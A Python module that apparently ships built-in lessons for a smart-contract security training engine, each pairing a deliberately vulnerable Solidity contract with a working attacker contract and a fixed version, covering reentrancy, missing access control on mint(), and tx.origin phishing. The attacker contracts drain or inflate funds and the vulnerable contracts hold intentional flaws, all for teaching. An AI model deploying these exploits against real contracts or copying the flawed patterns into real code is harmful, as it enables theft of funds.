"""Built-in lesson modules.

A presentation layer normally supplies its own :class:`SecurityModule`
descriptors; these ship with the engine so it is usable on its own and so
every exploit narrative has a lesson to drive it. All sources compile
cleanly, the vulnerable variants carrying the warning their lesson teaches.
"""

from __future__ import annotations

from playground.core.types import Difficulty, SecurityModule

# ── Reentrancy ───────────────────────────────────────────────────────────────

_REENTRANCY_VULNERABLE = """\
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

contract VulnerableBank {
    mapping(address => uint256) public balances;

    function deposit() public payable {
        balances[msg.sender] += msg.value;
    }

    function withdraw() public {
        uint256 amount = balances[msg.sender];
        require(amount > 0, "Nothing to withdraw");
        (bool sent, ) = msg.sender.call{value: amount}("");
        require(sent, "Transfer failed");
        balances[msg.sender] = 0;
    }
}
"""

_REENTRANCY_ATTACK = """\
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

interface IVulnerableBank {
    function deposit() external payable;
    function withdraw() external;
}

contract ReentrancyAttacker {
    IVulnerableBank public bank;
    address public owner;

    constructor(address bankAddress) {
        bank = IVulnerableBank(bankAddress);
        owner = msg.sender;
    }

    function attack() external payable {
        require(msg.value >= 1 ether, "Send at least 1 ether");
        bank.deposit{value: msg.value}();
        bank.withdraw();
    }

    receive() external payable {
        if (address(bank).balance >= 1 ether) {
            bank.withdraw();
        }
    }

    function collect() external {
        require(msg.sender == owner, "Not owner");
        payable(owner).transfer(address(this).balance);
    }
}
"""

_REENTRANCY_FIXED = """\
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

contract SecureBank {
    mapping(address => uint256) public balances;

    function deposit() public payable {
        balances[msg.sender] += msg.value;
    }

    function withdraw() public {
        uint256 amount = balances[msg.sender];
        require(amount > 0, "Nothing to withdraw");
        balances[msg.sender] = 0;
        (bool sent, ) = msg.sender.call{value: amount}("");
        require(sent, "Transfer failed");
    }
}
"""

# ── Access control ───────────────────────────────────────────────────────────

_ACCESS_CONTROL_VULNERABLE = """\
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

contract OpenToken {
    mapping(address => uint256) public balanceOf;
    uint256 public totalSupply;
    address public owner;

    constructor() {
        owner = msg.sender;
    }

    function mint(address to, uint256 amount) public {
        balanceOf[to] += amount;
        totalSupply += amount;
    }

    function transfer(address to, uint256 amount) public returns (bool) {
        require(balanceOf[msg.sender] >= amount, "Insufficient balance");
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}
"""

_ACCESS_CONTROL_ATTACK = """\
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

interface IOpenToken {
    function mint(address to, uint256 amount) external;
}

contract MintAttacker {
    function attack(address token) external {
        IOpenToken(token).mint(msg.sender, 1000);
    }
}
"""

_ACCESS_CONTROL_FIXED = """\
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

contract GuardedToken {
    mapping(address => uint256) public balanceOf;
    uint256 public totalSupply;
    address public owner;

    modifier onlyOwner() {
        require(msg.sender == owner, "Not owner");
        _;
    }

    constructor() {
        owner = msg.sender;
    }

    function mint(address to, uint256 amount) public onlyOwner {
        balanceOf[to] += amount;
        totalSupply += amount;
    }

    function transfer(address to, uint256 amount) public returns (bool) {
        require(balanceOf[msg.sender] >= amount, "Insufficient balance");
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}
"""

# ── tx.origin ────────────────────────────────────────────────────────────────

_TX_ORIGIN_VULNERABLE = """\
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

contract OriginWallet {
    address public owner;

    constructor() payable {
        owner = msg.sender;
    }

    function transferTo(address payable to, uint256 amount) public {
        require(tx.origin == owner, "Not owner");
        to.transfer(amount);
    }
}
"""

_TX_ORIGIN_ATTACK = """\
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

interface IOriginWallet {
    function transferTo(address payable to, uint256 amount) external;
}

contract OriginPhisher {
    IOriginWallet public wallet;
    address payable public attacker;

    constructor(IOriginWallet target) {
        wallet = target;
        attacker = payable(msg.sender);
    }

    receive() external payable {
        wallet.transferTo(attacker, address(wallet).balance);
    }
}
"""

_TX_ORIGIN_FIXED = """\
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

contract SenderWallet {
    address public owner;

    constructor() payable {
        owner = msg.sender;
    }

    function transferTo(address payable to, uint256 amount) public {
        require(msg.sender == owner, "Not owner");
        to.transfer(amount);
    }
}
"""


BUILTIN_MODULES: tuple[SecurityModule, ...] = (
    SecurityModule(
        id="reentrancy",
        title="Reentrancy Attack",
        description="Drain a bank that pays out before updating its books.",
        difficulty=Difficulty.BEGINNER,
        category="reentrancy",
        vulnerable_code=_REENTRANCY_VULNERABLE,
        attack_code=_REENTRANCY_ATTACK,
        fixed_code=_REENTRANCY_FIXED,
        explanation=(
            "withdraw() sends ETH before zeroing the caller's balance. The "
            "attacker's receive() hook calls withdraw() again while the old "
            "balance is still recorded, repeating until the bank is empty."
        ),
        vulnerability="External call made before the state update it depends on.",
        impact="Complete loss of the funds held by the bank.",
        prevention=(
            "Follow checks-effects-interactions: update balances before the "
            "external call, or use a reentrancy guard."
        ),
        references=[
            "https://swcregistry.io/docs/SWC-107",
            "https://docs.soliditylang.org/en/latest/security-considerations.html#reentrancy",
        ],
    ),
    SecurityModule(
        id="access-control",
        title="Missing Access Control",
        description="Mint tokens through an unprotected privileged entry point.",
        difficulty=Difficulty.BEGINNER,
        category="access-control",
        vulnerable_code=_ACCESS_CONTROL_VULNERABLE,
        attack_code=_ACCESS_CONTROL_ATTACK,
        fixed_code=_ACCESS_CONTROL_FIXED,
        explanation=(
            "mint() records an owner but never checks it, so any account can "
            "create tokens out of thin air."
        ),
        vulnerability="Privileged operation callable by anyone.",
        impact="Unlimited token inflation and theft of value backed by the token.",
        prevention="Guard privileged entry points with an onlyOwner modifier or role checks.",
        references=["https://swcregistry.io/docs/SWC-105"],
    ),
    SecurityModule(
        id="tx-origin",
        title="tx.origin Phishing",
        description="Trick the owner into calling a contract that spends on their behalf.",
        difficulty=Difficulty.INTERMEDIATE,
        category="access-control",
        vulnerable_code=_TX_ORIGIN_VULNERABLE,
        attack_code=_TX_ORIGIN_ATTACK,
        fixed_code=_TX_ORIGIN_FIXED,
        explanation=(
            "tx.origin is the account that started the whole call chain. If "
            "the owner sends ETH to the phishing contract, its receive() hook "
            "calls transferTo() and the origin check still passes."
        ),
        vulnerability="Authorization based on tx.origin instead of msg.sender.",
        impact="An attacker can move the wallet's funds once the owner interacts with them.",
        prevention="Authorize with msg.sender; never use tx.origin for access checks.",
        references=["https://swcregistry.io/docs/SWC-115"],
    ),
)


def get_module(module_id: str) -> SecurityModule | None:
    return next((m for m in BUILTIN_MODULES if m.id == module_id), None)


def list_modules() -> list[SecurityModule]:
    return list(BUILTIN_MODULES)
